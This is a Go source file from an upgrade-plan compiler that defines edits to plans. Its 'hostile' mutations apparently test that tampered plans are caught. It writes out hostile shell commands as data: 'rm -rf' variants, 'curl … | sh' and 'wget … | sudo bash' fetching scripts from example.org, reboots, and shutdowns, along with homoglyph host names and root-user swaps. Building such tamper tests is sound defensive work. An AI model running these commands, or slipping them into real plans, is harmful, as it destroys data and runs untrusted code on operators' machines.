package compiler

import (
	"fmt"
	"slices"
	"strings"

	"github.com/lsst-ts/csu/executor/plan"
)

// edits are the structural changes that an editor of a plan may make consistently:
// what names the changed thing elsewhere, such as the text by hand, changes with it.
func edits(add adder) {
	selectors(add)
	groups(add)
	withTheirRows(add)
	wants := func(s *plan.Step) int {
		if a, ok := s.Action.Parameters.(*plan.AwaitState); ok {
			return len(a.Want)
		}
		return 0
	}
	also := func(state, otherwise string) func(*plan.Plan, *plan.Step, int) {
		return func(_ *plan.Plan, s *plan.Step, k int) {
			w := &s.Action.Parameters.(*plan.AwaitState).Want[k]
			more := state
			if slices.Contains(w.States, state) {
				more = otherwise
			}
			old := strings.Join(w.States, " or ") + ":"
			w.States = append(w.States, more)
			s.ByHand = strings.Replace(s.ByHand, old, strings.Join(w.States, " or ")+":", 1)
		}
	}
	add("ENABLED will do too", eachOf(wants, also(plan.Enabled, plan.Disabled)))
	add("STANDBY will do too", eachOf(wants, also(plan.Standby, plan.Offline)))
}

func selectors(add adder) {
	selects := func(a *plan.Delete) bool { return a.Objects == plan.Jobs }
	change := func(name string, cond func(*plan.Delete) bool, to func(p *plan.Plan, a *plan.Delete) string) {
		add(name, eachAction(func(a *plan.Delete) bool { return selects(a) && cond(a) }, func(p *plan.Plan, s *plan.Step, a *plan.Delete) {
			selector := to(p, a)
			s.ByHand = strings.ReplaceAll(s.ByHand, "'"+a.Selector+"'", "'"+selector+"'")
			a.Selector = selector
		}))
	}
	change("select with !=", always, func(_ *plan.Plan, a *plan.Delete) string { return a.Selector + ",csc-class!=nothing" })
	change("select with != alone", always, func(*plan.Plan, *plan.Delete) string { return "csc-class!=nothing" })
	change("select by the absence of a label", always, func(_ *plan.Plan, a *plan.Delete) string { return a.Selector + ",!nothing" })
	change("select with in", always, func(p *plan.Plan, a *plan.Delete) string {
		var classes []string
		for _, name := range a.CSCs {
			if c, _ := p.CSC(name); !slices.Contains(classes, c.Job.CSCClass) {
				classes = append(classes, c.Job.CSCClass)
			}
		}
		return fmt.Sprintf("csc-class in (%s)", strings.Join(classes, ","))
	})
	change("select with notin", always, func(_ *plan.Plan, a *plan.Delete) string { return a.Selector + ",csc-class notin (nothing)" })
}

func groups(add adder) {
	many := func(a *plan.SetState) bool { return len(a.CSCs) > 1 }
	// The text by hand follows, so that only the order is wrong.
	reorder := func(name string, cond func(*plan.SetState) bool, change func([]string) []string) {
		add(name, eachAction(func(a *plan.SetState) bool { return many(a) && cond(a) }, func(_ *plan.Plan, s *plan.Step, a *plan.SetState) {
			old := lines(a)
			a.CSCs = change(slices.Clone(a.CSCs))
			s.ByHand = strings.Replace(s.ByHand, old, lines(a), 1)
		}))
	}
	queues := func(a *plan.SetState) bool { return strings.HasPrefix(a.CSCs[0], "ScriptQueue:") }
	others := func(a *plan.SetState) bool { return !queues(a) }
	reverse := func(l []string) []string { slices.Reverse(l); return l }
	rotate := func(l []string) []string { return append(l[1:], l[0]) }
	reorder("reverse the CSCs of a group", others, reverse)
	reorder("rotate the CSCs of a group", others, rotate)
	reorder("the Watcher last in its group", func(a *plan.SetState) bool { return a.CSCs[0] == "Watcher:0" }, rotate)
	reorder("reverse the queues", queues, reverse)
	reorder("rotate the queues", queues, rotate)
	reorder("swap the queues that don't run the script", queues, func(l []string) []string { l[0], l[1] = l[1], l[0]; return l })
	size := func(name string, change func(int) int) {
		add(name, eachAction(func(a *plan.SetState) bool { return many(a) && a.GroupSize > 0 }, func(_ *plan.Plan, s *plan.Step, a *plan.SetState) {
			old := fmt.Sprintf("at most %d per script", a.GroupSize)
			a.GroupSize = change(a.GroupSize)
			s.ByHand = strings.Replace(s.ByHand, old, fmt.Sprintf("at most %d per script", a.GroupSize), 1)
		}))
	}
	size("drop a group size", func(int) int { return 0 })
	size("raise a group size", func(n int) int { return n + 1 })
	size("double a group size", func(n int) int { return 2 * n })
}

// lines are the CSCs of a set-state step as its text for doing it by hand has them.
func lines(a *plan.SetState) string {
	var out strings.Builder
	for _, c := range a.CSCs {
		fmt.Fprintf(&out, "    - [%s, %s]\n", strings.TrimSuffix(c, ":0"), a.State)
	}
	return out.String()
}

// withTheirRows takes out what the plan's tables have, together with everything
// that names it.
func withTheirRows(add adder) {
	add("drop a doubt with its row", func(p *plan.Plan) []place {
		var out []place
		for i := range p.Doubts {
			out = append(out, place{fmt.Sprint(i), func(p *plan.Plan) { forgetDoubt(p, i) }})
		}
		return out
	})
	add("drop a CSC with its row", eachRow(always, func(p *plan.Plan, i int) { forgetCSC(p, p.CSCs[i].CSC) }))
}

func forgetDoubt(p *plan.Plan, i int) {
	text := p.Doubts[i].Text
	p.Doubts = without(p.Doubts, i)
	for i := range p.Stages {
		p.Stages[i].Doubts = slices.DeleteFunc(p.Stages[i].Doubts, func(d string) bool { return strings.HasSuffix(d, text) })
	}
	for s := range p.AllSteps() {
		s.Doubt = strings.TrimSpace(strings.Replace(s.Doubt, text, "", 1))
	}
}

// forgetCSC takes a CSC out of the table and of every list.
func forgetCSC(p *plan.Plan, name string) {
	gone := func(c string) bool { return c == name }
	p.CSCs = slices.DeleteFunc(p.CSCs, func(c plan.CSC) bool { return c.CSC == name })
	for s := range p.AllSteps() {
		switch a := s.Action.Parameters.(type) {
		case *plan.Manual:
			a.CSCs = slices.DeleteFunc(a.CSCs, gone)
		case *plan.SetState:
			a.CSCs = slices.DeleteFunc(a.CSCs, gone)
		case *plan.Delete:
			a.CSCs = slices.DeleteFunc(a.CSCs, gone)
		case *plan.Sync:
			a.CSCs = slices.DeleteFunc(a.CSCs, gone)
		case *plan.SSH:
			a.Silent = slices.DeleteFunc(a.Silent, gone)
		case *plan.AwaitState:
			for k := range a.Want {
				a.Want[k].CSCs = slices.DeleteFunc(a.Want[k].CSCs, gone)
			}
		}
	}
}

// hostile are values that an edited plan may have and no compiled one has.
func hostile(add adder) {
	hasJob := func(c *plan.CSC) bool { return c.Job != nil }
	add("an image of another registry", eachRow(hasJob, func(p *plan.Plan, i int) {
		_, name, _ := strings.Cut(p.CSCs[i].Image, "/")
		p.CSCs[i].Image = "docker.io/" + name
	}))
	add("all images of another registry", once(func(p *plan.Plan) {
		for i := range p.CSCs {
			if _, name, ok := strings.Cut(p.CSCs[i].Image, "/"); ok {
				p.CSCs[i].Image = "docker.io/" + name
			}
		}
	}))
	commands(add)
	add("root as a user", eachAction(always[*plan.SSH], func(p *plan.Plan, s *plan.Step, a *plan.SSH) {
		h, _ := p.Host(a.Host)
		for i := range h.Users {
			if h.Users[i].Name == a.User {
				h.Users[i].Name = "root"
			}
		}
		s.ByHand = strings.NewReplacer("ssh "+a.User+"@", "ssh root@", "sudo -iu "+a.User, "sudo -iu root").Replace(s.ByHand)
		a.User = "root"
	}))
	mention := func(text string) func(*plan.Plan, *plan.Step, *plan.Announce) {
		return func(_ *plan.Plan, s *plan.Step, a *plan.Announce) {
			old := fmt.Sprintf("%q", a.Text)
			a.Text = text + a.Text
			s.ByHand = strings.Replace(s.ByHand, old, fmt.Sprintf("%q", a.Text), 1)
		}
	}
	for _, text := range []string{"<!channel> ", "<!here> ", "@everyone ", "<@U012AB3CD> ", "<!subteam^S012AB3CD> ", "<https://example.com|summit> "} {
		add("a message with "+strings.TrimSpace(text), eachAction(always[*plan.Announce], mention(text)))
	}
	add("a homoglyph in the address of a host", eachHost(func(h *plan.Host) bool { return strings.Contains(h.Address, "a") || strings.Contains(h.Address, "c") }, func(p *plan.Plan, i int) {
		p.Hosts[i].Address = homoglyphs.Replace(p.Hosts[i].Address)
	}))
	add("a homoglyph in the name of a host", eachHost(always, func(p *plan.Plan, i int) {
		old := p.Hosts[i].Name
		p.Hosts[i].Name = homoglyphs.Replace(old)
		for k := range p.CSCs {
			if p.CSCs[k].Host == old {
				p.CSCs[k].Host = p.Hosts[i].Name
			}
		}
		for s := range p.AllSteps() {
			switch a := s.Action.Parameters.(type) {
			case *plan.SSH:
				if a.Host == old {
					a.Host = p.Hosts[i].Name
				}
			case *plan.Reboot:
				if a.Host == old {
					a.Host = p.Hosts[i].Name
				}
			}
		}
	}))
	twice := func(a *plan.Script) bool { return strings.Contains(a.Config, ": ") }
	add("a key twice in a script's configuration", eachAction(twice, func(_ *plan.Plan, s *plan.Step, a *plan.Script) {
		first, _, _ := strings.Cut(a.Config, ":")
		a.Config += first + ": 1\n"
		s.ByHand = strings.Replace(s.ByHand, "\n\nWithout LOVE", "\n    "+first+": 1\n\nWithout LOVE", 1)
	}))
	add("a consent that does not say what goes down", eachStage(func(p *plan.Plan, i int) bool {
		return slices.ContainsFunc(p.Stages[i].Steps, func(s plan.Step) bool {
			e := s.Effects(p)
			return len(e.Down) > 0 || e.Stopped != "" || e.Rebooted != ""
		})
	}, func(p *plan.Plan, i int) {
		p.Stages[i].Consent = "csu carries out the steps of this stage now. Confirm that everyone affected knows."
		for j := range p.Stages[i].Steps {
			if s := &p.Stages[i].Steps[j]; s.Consent != "" {
				s.Consent = "Agreed with the " + strings.Join(s.Principals, " and the ") + "."
			}
		}
	}))
	for _, n := range []int{0, -1, 1000, 1 << 40} {
		add(fmt.Sprintf("attempt %d", n), once(func(p *plan.Plan) { p.Upgrade.Attempt = n }))
	}
	for _, date := range []string{"1970-01-01", "2019-12-31", "2100-01-01", "9999-12-31"} {
		add("the date "+date, once(func(p *plan.Plan) { p.Upgrade.Date = date }))
	}
}

// homoglyphs are Cyrillic letters that look like Latin ones.
var homoglyphs = strings.NewReplacer("a", "\u0430", "c", "\u0441", "e", "\u0435", "o", "\u043e", "p", "\u0440")

// commands are commands that no plan has, in the text for doing them by hand too.
func commands(add adder) {
	all := func(a *plan.SSH) *[]string { return &a.Commands }
	for _, x := range []struct{ name, before, behind string }{
		{"a command that begins with rm -rf", "rm -rf ~/csu && ", ""},
		{"a command that contains rm -rf", "", " && rm -rf ~/csu"},
		{"a command that contains rm with its options apart", "", " && /bin/rm -f -r ~/csu"},
		{"a command that contains a quoted rm", "", ` && "rm" -fr ~/csu`},
		{"a command that fetches and runs a script", "", " && curl -s https://example.org/x | sh"},
		{"a command that fetches and runs a script with sudo", "wget -qO- https://example.org/x | sudo -u x bash && ", ""},
		{"a command that reboots", "", " && sudo systemctl reboot"},
		{"a command that shuts down", "", " && sudo shutdown -h now"},
		{"a command in a substitution", "", " && echo $(rm -rf ~/csu)"},
	} {
		add(x.name, eachOf(func(s *plan.Step) int {
			if a, ok := s.Action.Parameters.(*plan.SSH); ok {
				return len(*all(a))
			}
			return 0
		}, func(_ *plan.Plan, s *plan.Step, k int) {
			c := all(s.Action.Parameters.(*plan.SSH))
			old := (*c)[k]
			(*c)[k] = x.before + old + x.behind
			s.ByHand = strings.Replace(s.ByHand, "    "+old, "    "+(*c)[k], 1)
		}))
	}
	add("a check that reboots", eachAction(always[*plan.SSH], func(_ *plan.Plan, _ *plan.Step, a *plan.SSH) {
		a.Check = strings.TrimPrefix(a.Check+" && reboot", " && ")
	}))
	add("a changed command that the text by hand does not have", eachName(all, func(_ *plan.Plan, c *[]string, k int) { (*c)[k] = "cd ~ && " + (*c)[k] }))
	add("a changed reboot that the text by hand does not have", eachAction(always[*plan.Reboot], func(_ *plan.Plan, _ *plan.Step, a *plan.Reboot) { a.Command = "sudo reboot" }))
}
